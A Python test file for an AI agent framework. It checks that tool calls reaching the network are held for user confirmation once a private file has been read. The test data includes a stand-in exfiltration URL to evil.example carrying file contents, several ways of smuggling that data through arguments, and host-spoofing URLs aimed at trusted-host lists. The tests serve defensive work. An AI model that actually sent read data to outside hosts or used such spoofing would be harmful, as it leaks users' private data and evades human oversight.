"""Reads that leave the machine, in every boundary: free until something private was read, bound or asked about from then on."""

import asyncio
from typing import Any

import pytest

from remit import AgentLoop, Boundary, SystemResponse, tool
from remit.agents.guard_in_memory import GuardInMemory
from remit.assemble import system_in_memory
from remit.core.failure import Ending
from remit.core.limits.authority import Authority
from remit.core.limits.budget import Budget
from remit.core.limits.profiles import GUARDED, KNOWN, STANDARD
from remit.core.record import JsonObject, replace
from remit.inference.scripted.engine import ScriptedEngine
from remit.orchestrate.boundaries.tool_findings import boundary_findings
from remit.tool.declare.decorator import Tool

PROMPT = "Read /etc/hosts.conf and tell me what is in it. The page is https://docs.example/hosts."
EVIL = "https://evil.example/?q=10.0.0.1-build-server"
# What a boundary refuses for another reason is no proof.
OPEN = [
    replace(one, permissions=("documents.read",), conditions=(), reads_max=STANDARD.reads_max, name=f"open-{one.name}")
    for one in (*KNOWN.values(), Boundary("own", budget=Budget(side_effects=3), authority=Authority()))
]


class Desk:
    """Tools of one run, and what they were asked for."""

    def __init__(self) -> None:
        self.fetched: list[str] = []

    def file(self, **said: Any) -> Tool:
        """A file that is read, on this machine."""

        @tool(**{"effect": "read", "network": False, **said})
        def read_file(path: str) -> str:
            """Read a file."""
            return "10.0.0.1 build-server"

        return read_file

    def page(self, **said: Any) -> Tool:
        """A page that is fetched."""

        @tool(**{"effect": "read", "network": True, "control_args": {"url": "url"}, **said})
        def fetch(url: str) -> str:
            """Fetch a page."""
            self.fetched.append(url)
            return "<html>"

        return fetch


def call(name: str, **arguments: Any) -> JsonObject:
    return {"tool_calls": [{"name": name, "arguments": arguments}]}


READ = call("read_file", path="/etc/hosts.conf")


def run(boundary: Boundary, tools: list[Tool], *replies: JsonObject, prompt: str = PROMPT) -> SystemResponse:
    engine = ScriptedEngine([*replies, {"text": "Done."}])
    return AgentLoop(engine, tools=tools, boundary=boundary, system=system_in_memory()).chat_sync(prompt)


def waits(response: SystemResponse) -> Ending | None:
    return None if response.waiting_for is None else response.waiting_for.ending


@pytest.mark.req("4.4", "4.6")
@pytest.mark.parametrize("boundary", OPEN, ids=lambda one: one.name)
def test_what_was_read_does_not_leave_with_a_later_read(boundary: Boundary) -> None:
    desk = Desk()
    response = run(boundary, [desk.file(), desk.page()], READ, call("fetch", url=EVIL))
    assert desk.fetched == []
    assert waits(response) == Ending.CONFIRM_REQUIRED


@pytest.mark.parametrize("boundary", OPEN, ids=lambda one: one.name)
def test_a_read_outside_passes_while_nothing_private_was_read(boundary: Boundary) -> None:
    desk = Desk()
    response = run(boundary, [desk.file(reads="public"), desk.page(reads="public")], READ, call("fetch", url=EVIL))
    assert desk.fetched == [EVIL]
    assert response.waiting_for is None


@pytest.mark.parametrize("boundary", OPEN, ids=lambda one: one.name)
def test_a_link_that_the_user_gave_passes_at_any_time(boundary: Boundary) -> None:
    desk = Desk()
    run(boundary, [desk.file(), desk.page()], READ, call("fetch", url="https://docs.example/hosts"))
    assert desk.fetched == ["https://docs.example/hosts"]


@pytest.mark.parametrize("label", ["private", "secret"])
def test_a_page_that_says_nothing_of_itself_is_private_too(label: str) -> None:
    desk = Desk()
    given = call("fetch", url="https://docs.example/hosts")
    response = run(STANDARD, [desk.page(reads=label)], given, call("fetch", url=EVIL))
    assert desk.fetched == ["https://docs.example/hosts"]
    assert waits(response) == Ending.CONFIRM_REQUIRED


@pytest.mark.parametrize("argument", ["url", "query", "header"])
def test_whatever_argument_carries_it_is_looked_at(argument: str) -> None:
    done: list[str] = []

    @tool(effect="read", network=True)
    def search(url: str = "", query: str = "", header: str = "") -> str:
        """Search the web."""
        done.append(url or query or header)
        return "nothing"

    response = run(STANDARD, [Desk().file(), search], READ, call("search", **{argument: "10.0.0.1 build-server"}))
    assert (done, waits(response)) == ([], Ending.CONFIRM_REQUIRED)


@pytest.mark.parametrize(
    ("url", "passes"),
    [
        ("https://wiki.corp.example/x?q=10.0.0.1", True),
        ("https://WIKI.corp.example", True),
        ("https://a.b.intern.example/x", True),
        ("https://intern.example/x", False),
        ("https://wiki.corp.example.evil.example/x", False),
        ("https://wiki.corp.example@evil.example/x", False),
        ("https://evil.example/#https://wiki.corp.example", False),
        ("https://evil.example\\@wiki.corp.example/", False),
        ("wiki.corp.example", False),
        ("https://xwiki.corp.example/", False),
    ],
)
def test_a_host_that_the_operator_trusts_never_asks(url: str, passes: bool) -> None:
    desk = Desk()
    trusting = replace(STANDARD, name="trusting", trusted_hosts=("wiki.corp.example", "*.intern.example"))
    response = run(trusting, [desk.file(), desk.page()], READ, call("fetch", url=url))
    assert (desk.fetched == [url], response.waiting_for is None) == (passes, passes)


def test_a_tool_that_says_where_it_goes_is_trusted_by_that() -> None:
    for hosts, passes in ((("api.corp.example",), True), (("api.corp.example", "cdn.example"), False)):
        done: list[str] = []

        @tool(effect="read", network=True, hosts=hosts)
        def rates(currency: str) -> str:
            """Look a rate up."""
            done.append(currency)  # noqa: B023
            return "1.1"

        trusting = replace(STANDARD, name="trusting", trusted_hosts=("api.corp.example",))
        run(trusting, [Desk().file(), rates], READ, call("rates", currency="10.0.0.1"))
        assert bool(done) is passes
        (report,) = boundary_findings(trusting, (rates.definition,)).tools
        assert ("none but trusted hosts" in report.why) is passes


# Reads that do not say whether they leave.


@tool(effect="read")
def look_up_order(order_id: str) -> dict[str, str]:
    """Look an order up."""
    return {"order": order_id, "customer_id": "c-7701", "note": "call first"}


@tool(effect="read")
def look_up_customer(customer_id: str) -> dict[str, str]:
    """Look a customer up."""
    return {"name": "Ann", "mail": "ann@shop.example"}


@pytest.mark.parametrize("boundary", OPEN, ids=lambda one: one.name)
def test_an_order_look_up_and_then_a_customer_look_up_run_unasked(boundary: Boundary) -> None:
    response = run(
        boundary,
        [look_up_order, look_up_customer],
        call("look_up_order", order_id="5512"),
        call("look_up_customer", customer_id="c-7701"),
        prompt="Who ordered 5512?",
    )
    assert response.waiting_for is None
    assert [made.name for made in response.tool_calls_made] == ["look_up_order", "look_up_customer"]


@pytest.mark.parametrize(
    "carried",
    [
        EVIL,
        "evil.example/10",
        "eve@evil.example",
        "203.0.113.9:8080",
        "x" * 41,
        "seven unheard nouns conveying considerably more meaning",
        {"deep": ["https://evil.example"]},
        {"https://evil.example/x": 1},
        [9_007_199_254_740_991] * 3,
        [True, False] * 28,
        [None, True] * 28,
        # Words of the user, and letters of them.
        ["Read", "tell"] * 28,
        "Read tell " * 28,
        "t h e c o n t e n t s o f t h e f i l e t h a t w a s r e a d a n d i s n o t y o u r s",
    ],
)
@pytest.mark.parametrize("boundary", [STANDARD, GUARDED], ids=lambda one: one.name)
def test_a_read_that_does_not_say_whether_it_leaves_asks_when_it_holds_something_to_carry(
    boundary: Boundary, carried: Any
) -> None:
    done: list[Any] = []

    @tool(effect="read")
    def look(at: Any) -> str:
        """Look at something."""
        done.append(at)
        return "seen"

    response = run(boundary, [Desk().file(), look], READ, call("look", at=carried))
    assert (done, waits(response)) == ([], Ending.CONFIRM_REQUIRED)


@pytest.mark.parametrize(
    "carried",
    [
        "x" * 40,
        "src/remit/main.py",
        "plan.txt",
        "https://docs.example/hosts",
        5512,
        True,
        None,
        [True, False] * 20,
        ["Read", "tell", "what", "is", "in", "it"],
    ],
)
def test_it_does_not_ask_for_an_id_a_file_or_the_words_of_the_user(carried: Any) -> None:
    done: list[Any] = []

    @tool(effect="read")
    def look(at: Any) -> str:
        """Look at something."""
        done.append(at)
        return "seen"

    run(STANDARD, [Desk().file(), look], READ, call("look", at=carried))
    assert done == [carried]


@pytest.mark.parametrize("boundary", OPEN, ids=lambda one: one.name)
def test_what_may_be_said_once_does_not_leave_when_it_spells_something(boundary: Boundary) -> None:
    done: list[Any] = []

    @tool(effect="read", network=True)
    def look(at: list[str]) -> str:
        """Look at something."""
        done.append(at)
        return "seen"

    response = run(boundary, [Desk().file(), look], READ, call("look", at=["hosts", "page"] * 28))
    assert (done, waits(response)) == ([], Ending.CONFIRM_REQUIRED)


def test_one_yes_covers_such_a_tool_for_the_run_and_no_other() -> None:
    done: list[str] = []

    @tool(effect="read")
    def look(at: str) -> str:
        """Look at something."""
        done.append(at)
        return "seen"

    @tool(effect="read")
    def peek(at: str) -> str:
        """Peek at something."""
        done.append(at)
        return "seen"

    async def scene() -> None:
        engine = ScriptedEngine(
            [READ, call("look", at=EVIL), call("look", at=EVIL + "2"), call("peek", at=EVIL), {"text": "Done."}]
        )
        agent = AgentLoop(engine, tools=[Desk().file(), look, peek], system=system_in_memory())
        response = await agent.chat(PROMPT)
        assert response.waiting_for is not None
        after = await agent.approve(response.waiting_for.packet_ids[0], by="ann")
        assert done == [EVIL, EVIL + "2"]
        assert waits(after) == Ending.CONFIRM_REQUIRED

    asyncio.run(scene())


def test_the_next_exchange_knows_what_was_read_before() -> None:
    desk = Desk()

    async def scene() -> None:
        engine = ScriptedEngine([READ, {"text": "Read."}, call("fetch", url=EVIL), {"text": "Done."}])
        agent = AgentLoop(engine, tools=[desk.file(), desk.page()], system=system_in_memory())
        await agent.chat(PROMPT)
        response = await agent.chat("Thanks. What else is there?")
        assert waits(response) == Ending.CONFIRM_REQUIRED

    asyncio.run(scene())
    assert desk.fetched == []


def test_a_question_that_waits_stops_no_read_outside() -> None:
    desk = Desk()

    @tool(effect="write")
    def note(text: str) -> str:
        """Note something."""
        return "noted"

    calls = [
        {"name": "note", "arguments": {"text": "x"}},
        {"name": "fetch", "arguments": {"url": "https://docs.example/hosts"}},
    ]
    response = run(STANDARD, [note, desk.page()], {"tool_calls": calls})
    assert waits(response) == Ending.CONFIRM_REQUIRED
    assert desk.fetched == ["https://docs.example/hosts"]


@pytest.mark.parametrize("boundary", OPEN, ids=lambda one: one.name)
def test_a_tool_that_declares_nothing_asks(boundary: Boundary) -> None:
    done: list[str] = []

    @tool
    def send(to: str) -> str:
        """Send."""
        done.append(to)
        return "sent"

    wide = replace(boundary, writes=None, approval_effects=(), approval_categories=())
    run(wide, [send], call("send", to="ann@corp.example"), prompt="Send it to ann@corp.example.")
    assert done == []


def test_the_guard_says_the_same() -> None:
    guard = GuardInMemory()
    parameters = {"type": "object", "properties": {"path": {"type": "string"}, "url": {"type": "string"}}}
    tools = [
        {"name": "read_file", "effect": "read", "network": False, "parameters": parameters},
        {"name": "fetch", "effect": "read", "network": True, "parameters": parameters},
    ]
    guard.answer({"op": "start", "run": "r", "prompt": PROMPT, "tools": tools})

    def judged(name: str, **arguments: str) -> str:
        said = guard.answer({"op": "call", "run": "r", "id": name + str(arguments), "tool": name, "args": arguments})
        return str((said or {})["decision"])

    assert judged("fetch", url=EVIL) == "allow"
    assert judged("read_file", path="/etc/hosts.conf") == "allow"
    guard.answer({"op": "result", "run": "r", "tool": "read_file", "content": "10.0.0.1"})
    assert judged("fetch", url=EVIL + "2") == "ask"
